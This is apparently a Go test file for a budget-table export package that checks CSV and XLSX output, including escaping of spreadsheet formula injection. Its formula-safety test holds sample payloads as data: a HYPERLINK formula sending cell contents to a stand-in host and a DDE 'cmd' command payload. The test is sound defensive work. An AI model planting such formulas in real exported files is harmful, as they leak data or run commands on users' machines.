package opendata

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"renja/internal/diag"
	"renja/internal/table"
)

const schema = `id = "t9"
caption = "Tabel 9"

[[columns]]
name = "uraian"
type = "text"
title = "Uraian"

[[columns]]
name = "pagu"
type = "money"
title = "Pagu"
`

func testTable(t *testing.T) *table.Table {
	t.Helper()
	s, err := table.ParseSchema("data/t9.toml", "t9", []byte(schema))
	if err != nil {
		t.Fatal(err)
	}
	tb, err := table.Parse(s, "data/t9.csv", []byte("uraian;pagu\nx;1\n"))
	if err != nil {
		t.Fatal(err)
	}
	return tb
}

// TestCSVFormulaSafe: text cells that Excel would run as a formula are
// written with a leading apostrophe; numbers and a lone "-" are not; and
// renja reads every cell back to the text it wrote.
func TestCSVFormulaSafe(t *testing.T) {
	tb := testTable(t)
	cells := []struct{ text, written string }{
		{`=HYPERLINK("http://evil.example/?"&A1;"klik")`, `'=HYPERLINK(`},
		{"=1+1", "'=1+1"},
		{"+62 812 3456", "'+62 812 3456"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"'=sudah", "''=sudah"},
		{"-", "-"},
		{"-5", "-5"},
		{"Belanja Modal", "Belanja Modal"},
	}
	var rows [][]Value
	for _, c := range cells {
		rows = append(rows, []Value{{Text: c.text}, {Kind: Money, Money: 1, Text: "1"}})
	}
	out := CSV(tb, rows)
	lines := strings.Split(strings.TrimPrefix(string(out), "\ufeff"), "\r\n")
	for i, c := range cells {
		if l := lines[i+1]; !strings.HasPrefix(strings.TrimPrefix(l, `"`), c.written) {
			t.Errorf("%q written as %q, want it to start %q", c.text, l, c.written)
		}
	}
	back, err := table.Parse(tb.Schema, "data/t9.csv", out)
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cells {
		if got := back.Rows[i].Cells[0].Raw; got != c.text {
			t.Errorf("read back %q, want %q", got, c.text)
		}
	}
}

// TestXLSXRowLimit: a table longer than a sheet is a clear error, not an
// XLSX coordinate message.
func TestXLSXRowLimit(t *testing.T) {
	tb := testTable(t)
	rows := make([][]Value, excelize.TotalRows)
	for i := range rows {
		rows[i] = []Value{{Text: "x"}, {Kind: Money, Money: 1}}
	}
	_, err := XLSX(context.Background(), tb, rows)
	l, ok := diag.ListOf(err)
	if !ok || !strings.Contains(err.Error(), "paling banyak 1048576 baris") || l[0].File != "data/t9.csv" || l[0].Hint == "" {
		t.Fatalf("err = %v", err)
	}
	if _, err := XLSX(context.Background(), tb, rows[:10]); err != nil {
		t.Fatal(err)
	}
}

// TestXLSXStops: the spreadsheet of a large table stops between rows once
// its context ends (on the old code it ran to its end, past --timeout and
// Ctrl-C).
func TestXLSXStops(t *testing.T) {
	tb := testTable(t)
	rows := make([][]Value, 1_000_000)
	for i := range rows {
		rows[i] = []Value{{Text: "kegiatan"}, {Kind: Money, Money: int64(i)}}
	}
	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(100*time.Millisecond, cancel)
	start := time.Now()
	_, err := XLSX(ctx, tb, rows)
	if !errors.Is(err, context.Canceled) || time.Since(start) > 3*time.Second {
		t.Fatalf("%v after %v, want context.Canceled at once", err, time.Since(start))
	}
}

// wideTable is a table of n columns, text and money in turn (no two
// neighbours of one width), and rows rows.
func wideTable(tb testing.TB, n, rows int) (*table.Table, [][]Value) {
	var s strings.Builder
	s.WriteString("id = \"w\"\n")
	vals := make([]Value, n)
	for i := range n {
		typ := "text"
		vals[i] = Value{Text: "x"}
		if i%2 == 1 {
			typ, vals[i] = "money", Value{Kind: Money, Money: 1}
		}
		fmt.Fprintf(&s, "[[columns]]\nname = \"c%d\"\ntype = %q\n", i, typ)
	}
	sc, err := table.ParseSchema("data/w.toml", "w", []byte(s.String()))
	if err != nil {
		tb.Fatal(err)
	}
	rs := make([][]Value, rows)
	for i := range rs {
		rs[i] = vals
	}
	return &table.Table{Schema: sc, Path: "data/w.csv"}, rs
}

// BenchmarkXLSXWide: the widest table a schema may declare
// (limits.TableColumns), its columns alternating in width, which took
// excelize's SetColWidth time quadratic in the columns.
func BenchmarkXLSXWide(b *testing.B) {
	tb, rows := wideTable(b, 256, 100)
	for b.Loop() {
		if _, err := XLSX(context.Background(), tb, rows); err != nil {
			b.Fatal(err)
		}
	}
}
